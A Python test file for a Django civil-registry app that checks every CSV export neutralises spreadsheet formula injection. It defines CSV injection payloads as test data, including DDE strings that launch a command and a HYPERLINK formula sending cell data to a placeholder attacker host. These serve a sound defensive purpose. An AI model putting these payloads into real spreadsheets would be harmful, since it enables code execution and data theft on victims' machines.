"""CSV formula injection (issue 16, finding 1): every CSV the project writes is safe to open.

A resident, a kelurahan, a proxy or an undo reason whose text starts with = + - @ (or a tab or
CR) would run as a formula in Excel or LibreOffice. Each export below is produced with such
data and read back as a spreadsheet would: no cell may start with a formula character, the
hostile values come out with a leading apostrophe, and every cell is quoted.
"""

import csv
import io
import pathlib

from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from disdukcapil.spreadsheet import FORMULA_PREFIXES, SafeWriter, safe_cell
from distribution.services import handover_record, handover_undo
from receipts.models import Status
from tests.factories import (
    CardFactory,
    KelurahanFactory,
    PrintRunFactory,
    ReceiptFactory,
    ResidentFactory,
    ready_card,
)
from tests.import_rows import csv_text, siti

DDE = "=cmd|' /C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&A1)'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"


def read(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def assert_spreadsheet_safe(text: str, delimiter: str, *expected: str):
    """No cell starts a formula; each hostile value is there, defused; every cell quoted."""
    rows = read(text, delimiter)
    cells = [cell for row in rows for cell in row]
    assert cells, "empty export"
    for cell in cells:
        assert not cell.startswith(FORMULA_PREFIXES), cell
    for value in expected:
        assert "'" + value in cells, value
    # Quoted: every record starts with a quote (no test value holds a CRLF).
    for record in text.split("\r\n"):
        if record:
            assert record.startswith('"'), record


def body_of(response) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode("utf-8")


def test_safe_cell_follows_the_owasp_rule():
    for prefix in FORMULA_PREFIXES:
        assert safe_cell(prefix + "x") == "'" + prefix + "x"
    assert safe_cell("Siti Wahyuni") == "Siti Wahyuni"
    assert safe_cell(None) == ""
    assert safe_cell(7) == "7"
    out = io.StringIO()
    SafeWriter(out).writerow(["a;b", 'say "hi"', DDE])
    assert out.getvalue() == '"a;b";"say ""hi""";"\'=cmd|\' /C calc\'!A0"\r\n'


def test_print_list_defuses_formulas(staff_client, selatan, staff):
    kelurahan = KelurahanFactory(code="64.71.05.1009", name=AT, kecamatan=selatan)
    run = PrintRunFactory(created_by=staff)
    for position, name in enumerate([DDE, LINK, PLUS, MINUS, TAB, CR]):
        receipt = ReceiptFactory(
            resident=ResidentFactory(full_name=name, kelurahan=kelurahan), status=Status.QUEUED
        )
        CardFactory(receipt=receipt, print_run=run, position=position)
    response = staff_client.get(reverse("ekspor:print_list", args=[run.pk]))
    assert response.status_code == 200
    text = body_of(response)
    assert text.startswith("\ufeff")
    assert_spreadsheet_safe(text[1:], ";", DDE, LINK, PLUS, MINUS, TAB, CR, AT)


def test_receipts_export_defuses_formulas(staff_client, selatan):
    selatan.name = LINK
    selatan.save()
    kelurahan = KelurahanFactory(code="64.71.05.1009", name=DDE, kecamatan=selatan)
    ReceiptFactory(resident=ResidentFactory(kelurahan=kelurahan), collection_kecamatan=selatan)
    response = staff_client.get(reverse("ekspor:receipts"))
    assert response.status_code == 200
    text = body_of(response)
    assert text.startswith("\ufeff")
    assert_spreadsheet_safe(text[1:], ";", DDE, LINK)


def test_counter_today_csv_defuses_formulas(
    client, clerk_selatan, supervisor_selatan, sepinggan, ktp
):
    first = ready_card(resident=ResidentFactory(full_name=DDE, kelurahan=sepinggan))
    second = ready_card(resident=ResidentFactory(full_name=PLUS, kelurahan=sepinggan))
    handover = handover_record(
        receipt=first.receipt,
        actor=clerk_selatan,
        collected_by="proxy",
        identity_check="document",
        proxy_name=MINUS,
        proxy_relationship="suami",
        proxy_authority="kk",
        id_document_type=ktp,
        id_document_number="123",
    )
    handover_undo(handover=handover, actor=supervisor_selatan, reason=AT)
    handover_record(
        receipt=second.receipt,
        actor=clerk_selatan,
        collected_by="resident",
        identity_check="receipt",
    )
    client.force_login(clerk_selatan)
    response = client.get(reverse("loket:today_csv"))
    assert response.status_code == 200
    text = body_of(response)
    assert text.startswith("\ufeff")
    # The proxy and the undo reason are inside longer cells ("Diwakilkan: ...",
    # "Dibatalkan ...: ..."), so only whole-cell values are checked for the apostrophe.
    assert_spreadsheet_safe(text[1:], ";", DDE, PLUS)


HOSTILE_ROW = siti(nik="@123", nama=DDE, alamat=LINK, telepon=MINUS)


def test_admin_import_rejects_csv_defuses_formulas(
    staff_client, sepinggan, django_capture_on_commit_callbacks
):
    upload = SimpleUploadedFile("resi.csv", csv_text(HOSTILE_ROW).encode(), "text/csv")
    with django_capture_on_commit_callbacks(execute=True):  # the worker's job, run on commit
        response = staff_client.post("/admin/receipts/import/", {"file": upload})
    assert response.status_code == 302
    download = staff_client.get(response["Location"] + "ditolak.csv")
    assert download.status_code == 200
    text = download.content.decode("utf-8")
    assert text.startswith("\ufeff")
    assert_spreadsheet_safe(text[1:], ";", "@123", DDE, LINK, MINUS)


def test_command_rejects_file_defuses_formulas(sepinggan, tmp_path):
    source = tmp_path / "resi.csv"
    source.write_text(csv_text(HOSTILE_ROW), encoding="utf-8")
    rejects = tmp_path / "ditolak.csv"
    call_command("import_receipts", str(source), "--rejects", str(rejects), stdout=io.StringIO())
    text = rejects.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    assert_spreadsheet_safe(text[1:], ";", "@123", DDE, LINK, MINUS)


def test_no_module_writes_csv_except_the_one_writer():
    """One CSV writer (STYLE 15): a new export must go through disdukcapil.spreadsheet."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("disdukcapil", "distribution", "receipts", "portal", "demo", "notifications")
        for path in (root / app).rglob("*.py")
        if ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
        and path.name != "spreadsheet.py"
    ]
    assert offenders == []
